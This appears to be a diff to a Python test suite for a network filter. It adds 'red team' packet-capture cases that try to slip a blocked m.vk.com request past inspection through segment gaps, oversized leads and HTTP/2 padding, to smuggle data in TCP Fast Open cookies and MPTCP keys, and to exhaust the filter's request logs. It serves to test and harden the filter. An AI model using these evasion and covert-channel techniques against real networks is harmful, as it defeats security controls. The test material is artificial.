@@ -8936,31 +8936,30 @@ def case_rt8b_carrier_accecn(n):
 @case
 def case_rt8b_mptcp_ok(n):
     """(Red team round 8b) Must-allow twin of rt8b_carrier_mptcp: a genuine MPTCP v1
-    connection to the e2m endpoint (RFC 8684; Linux 5.6+, iOS): MP_CAPABLE on the SYN,
-    SYN-ACK and third ACK, then a DSS option (data ACK and mapping) on every data segment.
-    A fix that bounds option kinds by length or by negotiation must keep it."""
+    client (RFC 8684; Linux 5.6+, iOS) to the e2m endpoint: MP_CAPABLE on the SYN. Since
+    the twenty-first session aduana takes MPTCP off a checked flow's SYN
+    (judge_syn_strip_mptcp), so the server answers without it and the client falls back
+    to TCP (RFC 8684 3.7): no MPTCP option after the SYN. (Before, the server agreed and
+    DSS options rode every segment, which round 11's rt11_mptcp_dss_swap used.)"""
     cap = Capture()
     t = ETcp(cap, S1, 53224, E2M, 443, isn=53224, rtt_us=20000)
     kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
     t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
     t.cseq += 1
-    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
     t.sseq += 1
-    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
+    t.raw(True, "A")
     dsn = {True: 1, False: 1}
+    assert kc and ks
 
     def seg(from_client, payload):
-        mine = dsn[from_client]
-        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not from_client] & M32, mine & M32,
-                                         (t.cseq if from_client else t.sseq) - (53225 if from_client else 0) & M32,
-                                         len(payload))
-        t.raw(from_client, "PA", payload, options=[(30, dss)])
+        t.raw(from_client, "PA", payload)
         dsn[from_client] += len(payload)
         if from_client:
             t.cseq += len(payload)
         else:
             t.sseq += len(payload)
-        t.raw(not from_client, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[from_client] & M32))])
+        t.raw(not from_client, "A")
     seg(True, hello(n))
     seg(False, server_hello_flight(n))
     seg(True, CCS + tls_appdata(n + "fin", 53))
@@ -9756,17 +9755,20 @@ def case_rt9d_mptcp_v0_ok(n):
     flag on the SYN, SYN-ACK (12 bytes) and third ACK (20 bytes), then on every data
     segment a DSS with an 8-byte data ACK, an 8-byte DSN, the subflow sequence, length
     and checksum (28 bytes) behind NOP, NOP, timestamps: 40 bytes of options, and
-    DATA_ACK-only DSS on the ACKs. Nothing may be dropped."""
+    DATA_ACK-only DSS on the ACKs. Nothing may be dropped. Since the twenty-first
+    session the SYN's MP_CAPABLE is taken off (judge_syn_strip_mptcp): the server answers
+    without it and the client falls back to TCP, timestamps alone."""
     cap = Capture()
     kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
     t = Rt9dTcp(cap, S1, 53605, E2M, 53605,
                 lambda t: rt9d_linux_syn(t) + [(30, b"\x00\x81" + kc)],
-                lambda t: rt9d_linux_synack(t) + [(30, b"\x00\x81" + ks)], ts=True)
+                lambda t: rt9d_linux_synack(t), ts=True)
     t.raw(True, "S", options=t.syn_opts(t))
     t.cseq += 1
     t.raw(False, "SA", options=t.synack_opts(t))
     t.sseq += 1
-    t.raw(True, "A", options=t.opts(True, [(30, b"\x00\x81" + kc + ks)]))
+    assert ks
+    t.raw(True, "A", options=t.opts(True, []))
     dsn = {True: 0x1122334455660001, False: 0x6655443322110001}
     c0, s0 = t.cseq, t.sseq
 
@@ -9774,14 +9776,14 @@ def case_rt9d_mptcp_v0_ok(n):
         ssn = ((t.cseq - c0) if from_client else (t.sseq - s0)) + 1
         dss = (b"\x20\x0f" + struct.pack("!QQIHH", dsn[not from_client], dsn[from_client],
                                             ssn & M32, len(payload), 0x1234))
-        t.seg(from_client, payload, extra=[(30, dss)])
+        assert dss
+        t.seg(from_client, payload, extra=[])
         dsn[from_client] += len(payload)
         if from_client:
             t.cseq += len(payload)
         else:
             t.sseq += len(payload)
-        t.raw(not from_client, "A", options=t.opts(not from_client, [
-            (30, b"\x20\x03" + struct.pack("!Q", dsn[from_client]))]))
+        t.raw(not from_client, "A", options=t.opts(not from_client, []))
     seg(True, hello(n))
     seg(False, server_hello_flight(n))
     seg(True, CCS + tls_appdata(n + "fin", 53))
@@ -10924,7 +10926,9 @@ def case_rt10f_syn_tfo_mptcp_ok(n):
     """(Red team round 10f) Must-allow: a Linux MPTCP client with a Fast Open cookie from an
     earlier connection and no SYN data: MSS, SACK permitted, timestamps, window scale, a
     Fast Open cookie of 8 bytes and MP_CAPABLE (4): 38 bytes of SYN options. The server
-    answers MP_CAPABLE with its key and the session runs with DSS options."""
+    answers MP_CAPABLE with its key and the session runs with DSS options. Since the
+    twenty-first session the MP_CAPABLE is taken off (judge_syn_strip_mptcp): the server
+    answers without it and the session runs as TCP."""
     cap = Capture()
     t = ETcp(cap, S1, 54017, E2M, 443, isn=54017, rtt_us=20000)
     ks, kc = prand(n + "ks", 8), prand(n + "kc", 8)
@@ -10932,27 +10936,29 @@ def case_rt10f_syn_tfo_mptcp_ok(n):
                               ("WScale", 7), (34, prand(n + "ck", 8)), (30, b"\x00\x81")])
     t.cseq += 1
     t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (9000, 1000)), ("NOP", None),
-                                ("WScale", 7), (30, b"\x01\x01" + ks)])
+                                ("WScale", 7)])
     t.sseq += 1
     ts = {True: 1001, False: 9001}
 
     def tso(fc):
         ts[fc] += 1
         return [("NOP", None), ("NOP", None), ("Timestamp", (ts[fc], ts[not fc]))]
-    t.raw(True, "A", options=tso(True) + [(30, b"\x00\x81" + kc + ks)])
+    assert kc and ks
+    t.raw(True, "A", options=tso(True))
     dsn = {True: 1, False: 1}
 
     def seg(fc, payload):
         dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, dsn[fc] & M32,
                                          (t.cseq - 54018 if fc else t.sseq - (54017 * 7 + 4001)) & M32,
                                          len(payload))
-        t.raw(fc, "PA", payload, options=tso(fc) + [(30, dss)])
+        assert dss
+        t.raw(fc, "PA", payload, options=tso(fc))
         dsn[fc] += len(payload)
         if fc:
             t.cseq += len(payload)
         else:
             t.sseq += len(payload)
-        t.raw(not fc, "A", options=tso(not fc) + [(30, b"\x20\x01" + struct.pack("!I", dsn[fc] & M32))])
+        t.raw(not fc, "A", options=tso(not fc))
     seg(True, hello(n))
     seg(False, server_hello_flight(n))
     seg(True, CCS + tls_appdata(n + "fin", 53))
@@ -11211,6 +11217,904 @@ def case_rt10f_pending_ack_opt(n):
     t.data(True, CCS + tls_appdata(n + "fin", 53))
     t.close()
     return cap, {"leak": [leak(n)]}
+
+
+# --- red team round 11 (rt11_): the office request log, checked flows' option and
+# extension rules, honest stacks.
+
+
+def _rt11_vk_pad(n, size):
+    real = _rtk_vk_req(n)
+    real = real[:-2] + b"X-Pad: " + b"q" * (size - len(real) - 9) + b"\r\n\r\n"
+    assert len(real) == size
+    return real
+
+
+_RT11_OK = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
+
+
+@case
+def case_rt11_lead17k_vk(n):
+    """(Red team round 11) Office HTTP: a lead of CRLFs longer than the first-bytes slot
+    (16 KiB, acknowledged), then 1460 more CRLFs lost past us, a GET for www.example.org
+    after them, then m.vk.com at the lost CRLFs' place. judge_rlog_lead logs the lead
+    from the slot only when it is all there (k > sl->have: nothing logged). Must drop
+    (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54100, SOC, 80, isn=54100 * 7, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    for o in range(0, 16384, 1024):
+        t.raw(True, "PA", b"\r\n" * 512, seq=base + o, gap=200)
+    t.raw(False, "A", ack=base + 16384)
+    t.raw(True, "PA", b"\r\n" * 730, seq=base + 16384)
+    t.raw(True, "PA", _RT11_OK, seq=base + 16384 + 1460)
+    t.raw(False, "A", ack=base + 16384)
+    t.raw(True, "PA", _rt11_vk_pad(n, 1460), seq=base + 16384, gap=30000)
+    t.cseq = base + 16384 + 1460 + len(_RT11_OK)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    _ok_answer(t, n, mark=False)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_h2pk_bigframe_vk(n):
+    """(Red team round 11) Office h2c with prior knowledge: the preface, SETTINGS, then a
+    frame of an unknown type (0xfa, which servers must ignore, RFC 9113 5.5) of 16384
+    bytes (the default SETTINGS_MAX_FRAME_SIZE), then HEADERS for m.vk.com: the first
+    HEADERS lies past the first-bytes slot's 16 KiB. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54101, SOC, 80, isn=54101 * 7, rtt_us=20000)
+    t.handshake()
+    hb = (b"\x82\x86\x84" + b"\x01" + bytes([8]) + b"m.vk.com"
+          + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
+    data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+            + h2_frame(0xfa, 0, 0, prand(n + "u", 16384)) + h2_frame(1, 5, 1, hb))
+    base = t.cseq
+    for o in range(0, len(data), 1448):
+        t.raw(True, "PA", data[o:o + 1448], seq=base + o, gap=200)
+    t.cseq = base + len(data)
+    t.raw(False, "A")
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
+           + h2_frame(0, 1, 1, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_chunk_runs_big_loss_ok(n):
+    """(Red team round 11) Must-allow: rt10e_chunk_runs_loss_ok with a bigger flight. An
+    NDJSON log shipper (Fluent Bit, Vector: one 40-byte line a chunk) uploads 64 KB in one
+    flight (1600 chunks, inside a window scaled by 7); a late segment is lost past us and
+    sent again, the same bytes. Each chunk-size line is a run of its own (1024 runs a
+    log): past them the rest is an unverifiable range, and the honest copy is refused."""
+    cap, t = ka_flow(n, 54102, reqs=1)
+    t.data(True, b"POST /ingest HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
+           b"Content-Type: application/x-ndjson\r\n\r\n")
+    body = b""
+    i = 0
+    while len(body) < 64000:
+        d = b'{"i":%05d,"m":"' % i + passm(n) + b'"}'
+        d = d + b"x" * (39 - len(d)) + b"\n"
+        body += b"%x\r\n" % len(d) + d + b"\r\n"
+        i += 1
+    body += b"0\r\n\r\n"
+    base = t.cseq
+    segs = [(o, body[o:o + 1448]) for o in range(0, len(body), 1448)]
+    lost = len(segs) - 3
+    for j, (o, s) in enumerate(segs):
+        t.raw(True, "PA", s, seq=base + o, gap=100)
+    t.raw(False, "A", ack=base + segs[lost][0], gap=20000)
+    for j in range(lost + 1, len(segs)):
+        t.raw(False, "A", ack=base + segs[lost][0], gap=100)
+    t.raw(True, "PA", segs[lost][1], seq=base + segs[lost][0], gap=20000)
+    t.cseq = base + len(body)
+    t.raw(False, "A")
+    _ok_answer(t, n, mark=False)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def _rt11_e2m_ecn(n, port, ce):
+    """An e2m TLS session with ECN (RFC 3168): the SYN with ECE and CWR, the SYN-ACK with
+    ECE, data in ECT(0) datagrams; with ce, a client record marked CE by a router inside,
+    the server's ACKs echoing ECE until the client's CWR."""
+    cap = Capture()
+    t = ETcp(cap, S1, port, E2M, 443, isn=port, rtt_us=20000)
+    ect = {"tos": 0x02}
+    t.raw(True, "SEC", options=Tcp.SYN_OPTS)
+    t.cseq += 1
+    t.raw(False, "SAE", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.raw(True, "A")
+
+    def d(fc, payload, ipkw=ect, flags="PA", ackflags="A"):
+        t.raw(fc, flags, payload, ipkw=ipkw)
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+        t.raw(not fc, ackflags)
+    d(True, hello(n))
+    d(False, server_hello_flight(n))
+    d(True, CCS + tls_appdata(n + "fin", 53))
+    if ce:
+        d(True, tls_appdata(n + "r0", 300), ipkw={"tos": 0x03}, ackflags="AE")
+        d(True, marked_record(passm(n), n + "req", 200), flags="PAC")
+    else:
+        d(True, marked_record(passm(n), n + "req", 200))
+    d(False, marked_record(passm(n) + b"srv", n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rt11_ecn_ok(n):
+    """(Red team round 11) Must-allow: an e2m session with ECN negotiated (macOS and iOS
+    ask for it on most connections, Linux when tcp_ecn=1), data in ECT(0) datagrams."""
+    return _rt11_e2m_ecn(n, 54103, False)
+
+
+@case
+def case_rt11_ecn_ce_ok(n):
+    """(Red team round 11) Must-allow: rt11_ecn_ok with a congestion mark: a client record
+    marked CE, the server's ACK with ECE, the client's next record with CWR."""
+    return _rt11_e2m_ecn(n, 54104, True)
+
+
+@case
+def case_rt11_macos_syn_ok(n):
+    """(Red team round 11) Must-allow: macOS's SYN options as sent (mss, nop, wscale 6,
+    nop, nop, timestamps, sackOK, eol, then zero padding), the server's SYN-ACK with
+    timestamps, and every segment after with timestamps."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54105, E2M, 443, isn=54105, rtt_us=20000)
+    ts = [1000000]
+
+    def o():
+        ts[0] += 7
+        return [("NOP", None), ("NOP", None), ("Timestamp", (ts[0], 500000))]
+    t.raw(True, "S", options=[("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
+                              ("Timestamp", (1000000, 0)), ("SAckOK", b""), ("EOL", None)])
+    t.cseq += 1
+    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (500000, 1000000)),
+                                ("NOP", None), ("WScale", 7)])
+    t.sseq += 1
+    t.raw(True, "A", options=o())
+    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
+                        (True, CCS + tls_appdata(n + "fin", 53)),
+                        (True, marked_record(passm(n), n + "req", 200)),
+                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
+        t.raw(fc, "PA", payload, options=o() if fc else [("NOP", None), ("NOP", None), ("Timestamp", (500100 + ts[0], ts[0]))])
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+        t.raw(not fc, "A", options=o() if not fc else [("NOP", None), ("NOP", None), ("Timestamp", (500100 + ts[0], ts[0]))])
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rt11_win_keepalive_ok(n):
+    """(Red team round 11) Must-allow: an e2m TLS session from Windows, idle; Windows' TCP
+    keep-alive is one byte of garbage (0x00) at the byte before its next (Linux and macOS
+    send none), which the server answers with an ACK; then the session goes on. Dropping
+    the probe makes Windows reset the connection after its retries."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54106, E2M, 54106, n)
+    for i in range(3):
+        t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=45000000 if i == 0 else 1000000)
+        t.raw(False, "A")
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rt11_lead_gap_idle_vk(n):
+    """(Red team round 11) Office HTTP: 100 bytes of CRLF (more than the classifier joins
+    in order, CLS_JOIN_MAX), then the m.vk.com request past a gap of 100 bytes: forwarded
+    unread (judge_tcp_long: TCP_SKIP past a gap once 64 bytes were read; white space set
+    no read start, so judge_http_more never sees it). 30 s of silence (the flow parked
+    past the time budget, its first-bytes slot closed), then the gap filled with CRLFs:
+    the server reads the queued request whole. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54107, SOC, 80, isn=54107 * 7, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    t.raw(True, "PA", b"\r\n" * 50, seq=base)
+    t.raw(False, "A", ack=base + 100)
+    req = _rtk_vk_req(n)
+    t.raw(True, "PA", req, seq=base + 200)
+    t.raw(False, "A", ack=base + 100)
+    cap.idle(30)
+    t.raw(True, "PA", b"\r\n" * 50, seq=base + 100)
+    t.cseq = base + 200 + len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_lead_gap_vk(n):
+    """(Red team round 11) rt11_lead_gap_idle_vk without the silence: 100 bytes of CRLF,
+    the m.vk.com request past a gap of 100 bytes, then the gap filled with CRLFs at once.
+    The request past the gap must not reach the server before it is read. Must drop
+    (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54108, SOC, 80, isn=54108 * 7, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    t.raw(True, "PA", b"\r\n" * 50, seq=base)
+    t.raw(False, "A", ack=base + 100)
+    req = _rtk_vk_req(n)
+    t.raw(True, "PA", req, seq=base + 200)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", b"\r\n" * 50, seq=base + 100)
+    t.cseq = base + 200 + len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_hello_gap_tail_vk(n):
+    """(Red team round 11) Office TLS: a ClientHello for m.vk.com whose first 100 bytes
+    come in order, its tail (the name, and the marker in the last extension) past a gap of
+    100 bytes, then the gap: past CLS_JOIN_MAX bytes read, a segment past a gap is
+    forwarded (judge_tcp_long, TCP_SKIP) before the hello is whole. Nothing of a hello
+    may reach the server before it is read (anydesk_seg). Must drop (social), the tail
+    not forwarded."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54109, SOC, 443, isn=54109 * 7, rtt_us=20000)
+    t.handshake()
+    h = hello(n, sni=VK, alpn_extra=[leak(n)])
+    base = t.cseq
+    t.raw(True, "PA", h[:100], seq=base)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", h[200:], seq=base + 200)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", h[100:200], seq=base + 100)
+    t.cseq = base + len(h)
+    t.raw(False, "A")
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_lead_gap_far_vk(n):
+    """(Red team round 11) Office HTTP: 100 bytes of CRLF, then the m.vk.com request past
+    a gap, at 17000 bytes (past the first-bytes slot's 16 KiB, so the slot keeps none of
+    it): forwarded unread (judge_tcp_long, TCP_SKIP past a gap once 64 bytes were read),
+    then the gap filled with CRLFs in order. The server reads the white space, then the
+    request; we read white space only. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54110, SOC, 80, isn=54110 * 7, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    t.raw(True, "PA", b"\r\n" * 50, seq=base)
+    t.raw(False, "A", ack=base + 100)
+    req = _rtk_vk_req(n)
+    t.raw(True, "PA", req, seq=base + 17000)
+    t.raw(False, "A", ack=base + 100)
+    for o in range(100, 17000, 1450):
+        e = min(o + 1450, 17000)
+        t.raw(True, "PA", b"\r\n" * ((e - o) // 2), seq=base + o, gap=300)
+    t.cseq = base + 17000 + len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_upgrade_longmethod_vk(n):
+    """(Red team round 11) Office HTTP: a GET for www.example.org asking for a WebSocket
+    upgrade, which the server (nginx serving files, no WebSocket proxying) ignores: a 200,
+    the connection kept alive. Then a request whose method is 40 letters (nginx takes any
+    run of A-Z, _ and -, answers an unknown one 405 and keeps the connection; our reader
+    stops at 31), which we take for the tunnel's first bytes (judge_req_common: NOREQ
+    behind an upgrade, q.off) and stop reading; then a GET for m.vk.com, which nginx
+    reads and serves. Must drop (social)."""
+    cap, t = ka_flow(n, 54111, reqs=1)
+    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
+           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+           b"Sec-WebSocket-Version: 13\r\n\r\n")
+    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+    t.data(True, b"A" * 40 + b" / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
+    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_h2pk_padprio_vk(n):
+    """(Red team round 11) Office h2c decided long before (h2c_long), then stream 81 for
+    m.vk.com in a HEADERS frame with both PADDED and PRIORITY (a pad length, five bytes of
+    priority, the block, then padding that reads as a block for www.example.org). The
+    server strips both. Must drop (social)."""
+    def last(t):
+        blk = h2_idx_block(b"m.vk.com", leak(n), False)
+        pad = b"\x82\x86\x84\x41\x0fwww.example.org"
+        payload = bytes([len(pad)]) + b"\x00\x00\x00\x00\x10" + blk + pad
+        t.data(True, h2_frame(1, 0x2d, 81, payload))
+        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
+    return h2c_long(n, 54112, last, leak(n)), {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_h2pk_first_padprio_vk(n):
+    """(Red team round 11) Office h2c with prior knowledge: the first HEADERS (read in the
+    first-bytes slot) for m.vk.com with PADDED and PRIORITY, its padding a block for
+    www.example.org. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54113, SOC, 80, isn=54113 * 7, rtt_us=20000)
+    t.handshake()
+    blk = h2_idx_block(b"m.vk.com", leak(n), False)
+    pad = b"\x82\x86\x84\x41\x0fwww.example.org"
+    payload = bytes([len(pad)]) + b"\x00\x00\x00\x00\x10" + blk + pad
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 0x2d, 1, payload))
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
+           + h2_frame(0, 1, 1, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_rlog_rotate_dos_ok(n):
+    """(Red team round 11) Must-allow: rt10e_pool_dos_ok against the age rule. Ten office
+    addresses of one insider (10.20.3.1-10) each open 64 connections (their share) to an
+    accomplice server outside and send a request; every 8 s each sends its next request
+    and only then does the server acknowledge the one before: no log ever empties, none
+    holds a byte older than 8 s (RLOG_STALE is 10), and the workers' pools stay full. An
+    honest office host's GET for www.example.org (sent again at 1, 2, 4 and 8 s) finds
+    no log (judge_rlog_take: 32 busy, none stale) and every copy is dropped."""
+    cap = Capture()
+    ts = []
+    for a in range(10):
+        src = "10.20.3.%d" % (a + 1)
+        for i in range(64):
+            t = ETcp(cap, src, 54400 + i, ATK, 80, isn=(a * 64 + i) * 7919 + 11, rtt_us=20000)
+            t.handshake(gap=30)
+            ts.append(t)
+
+    def req(t, k):
+        h = b"GET /r%d HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: %s\r\n\r\n" % (k, b"b" * 200)
+        t.raw(True, "PA", h, gap=20)
+        t.cseq += len(h)
+    for t in ts:
+        req(t, 0)
+        t.acked = None
+    u = ETcp(cap, O1, 54114, SOC, 80, isn=54114 * 7, rtt_us=20000)
+    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
+    sent = False
+    for k in range(1, 6):
+        cap.idle(8)
+        for t in ts:
+            prev = t.cseq
+            req(t, k)
+            t.raw(False, "A", ack=prev, gap=20)
+        if k == 1:
+            u.handshake()
+            u.raw(True, "PA", head, gap=1000)
+            for g in (1000000, 2000000, 4000000):
+                u.raw(True, "PA", head, gap=g)
+        if k == 2:
+            u.raw(True, "PA", head, gap=1000)
+    u.cseq += len(head)
+    u.raw(False, "A")
+    _ok_answer(u, n, mark=False)
+    u.close()
+    return cap, {"pass": [passm(n)]}
+
+
+class _Rt11WrapTs(TsTcp):
+    """TsTcp whose clocks start just short of 2^32 and wrap inside the session."""
+
+    def __init__(self, *a, **kw):
+        super().__init__(*a, **kw)
+        self.ts = {True: 0xFFFFFFF4, False: 0xFFFFFFFA}
+
+    def opts(self, from_client, tsval=None):
+        mine = self.ts[from_client] if tsval is None else tsval
+        if tsval is None:
+            self.ts[from_client] += 1
+        return [("NOP", None), ("NOP", None),
+                ("Timestamp", (mine & 0xFFFFFFFF, (self.ts[not from_client] - 1) & 0xFFFFFFFF))]
+
+    def handshake(self, gap=None):
+        m = 0xFFFFFFFF
+        self.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[True] & m, 0)),
+                                     ("NOP", None), ("WScale", 7)], gap=gap)
+        self.ts[True] += 1
+        self.cseq += 1
+        self.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""),
+                                       ("Timestamp", (self.ts[False] & m, (self.ts[True] - 1) & m)),
+                                       ("NOP", None), ("WScale", 7)])
+        self.ts[False] += 1
+        self.sseq += 1
+        self.raw(True, "A", options=self.opts(True))
+
+
+@case
+def case_rt11_ts_wrap_ok(n):
+    """(Red team round 11) Must-allow: an e2m session where both sides use timestamps and
+    the client's and server's clocks wrap past 2^32 mid-session (Linux gives each
+    connection a random offset: a long session crosses the wrap now and then). PAWS
+    compares stamps modulo 2^32 (RFC 7323 5.2)."""
+    cap = Capture()
+    t = _Rt11WrapTs(cap, S1, 54115, E2M, 443, isn=54115, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    for k in range(8):
+        t.data(True, tls_appdata(n + "q%d" % k, 120))
+        t.data(False, tls_appdata(n + "s%d" % k, 300))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rt11_macos_syn_retry_ok(n):
+    """(Red team round 11) Must-allow: macOS and FreeBSD drop window scaling, timestamps
+    and SACK from a SYN after their third retransmission (tcp_timer_rexmt, for broken
+    peers): three SYNs with options go unanswered, the fourth carries the MSS alone, the
+    SYN-ACK answers it without options, and the session goes on unscaled."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54116, E2M, 443, isn=54116, rtt_us=20000)
+    full = [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
+            ("Timestamp", (1000000, 0)), ("SAckOK", b""), ("EOL", None)]
+    for i in range(3):
+        t.raw(True, "S", options=full, gap=1000000 << i)
+    t.raw(True, "S", options=[("MSS", 1460)], gap=4000000)
+    t.cseq += 1
+    t.raw(False, "SA", options=[("MSS", 1460)])
+    t.sseq += 1
+    t.raw(True, "A", window=65535)
+    for fc, payload in ((True, hello(n)), (False, server_hello_flight(n)),
+                        (True, CCS + tls_appdata(n + "fin", 53)),
+                        (True, marked_record(passm(n), n + "req", 200)),
+                        (False, marked_record(passm(n) + b"srv", n + "resp", 500))):
+        t.raw(fc, "PA", payload, window=65535)
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+        t.raw(not fc, "A", window=65535)
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_rt11_synck(n):
+    """(Red team round 11) A carrier: an allowed e2m session; after its records the client
+    sends its SYN again (its own first sequence number: "a SYN sent again moves nothing",
+    forwarded), each time with a Fast Open cookie of 16 bytes of anything (judge_tcp_opts
+    takes a cookie of 4 to 16 bytes on any SYN) and an 8-byte MP_CAPABLE v0 key. No stack
+    sends a SYN once it has sent data; the server answers each with a challenge ACK and
+    everything on the way reads the bytes. Must not pass."""
+    cap = Capture()
+    t = tls_established(cap, S1, 54117, E2M, 54117, n)
+    isn = 54117
+    assert len(leak(n)) == 16
+    for i in range(4):
+        t.raw(True, "S", seq=isn, options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7),
+                                           (34, leak(n)), (30, b"\x00\x81" + prand(n + "k%d" % i, 8))],
+              gap=200000)
+        t.raw(False, "A")
+    t.data(True, tls_appdata(n + "more", 200))
+    t.data(False, tls_appdata(n + "mresp", 300))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@open_case
+def case_rt11_synpr(n):
+    """(Red team round 11) A carrier before the handshake: an e2m client's SYN sent six
+    times (its own number, 1 s apart, as retransmissions are), each with another Fast Open
+    cookie of 16 bytes of anything; the sixth is answered and an ordinary session
+    follows. A retransmitted SYN carries its first copy's options (Linux, BSD). Must not
+    pass."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54118, E2M, 443, isn=54118, rtt_us=20000)
+    assert len(leak(n)) == 16
+    for i in range(6):
+        ck = leak(n) if i % 2 else prand(n + "c%d" % i, 16)
+        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), (34, ck)],
+              gap=1000000)
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def _rt11_csum16(b):
+    if len(b) % 2:
+        b += b"\x00"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return s
+
+
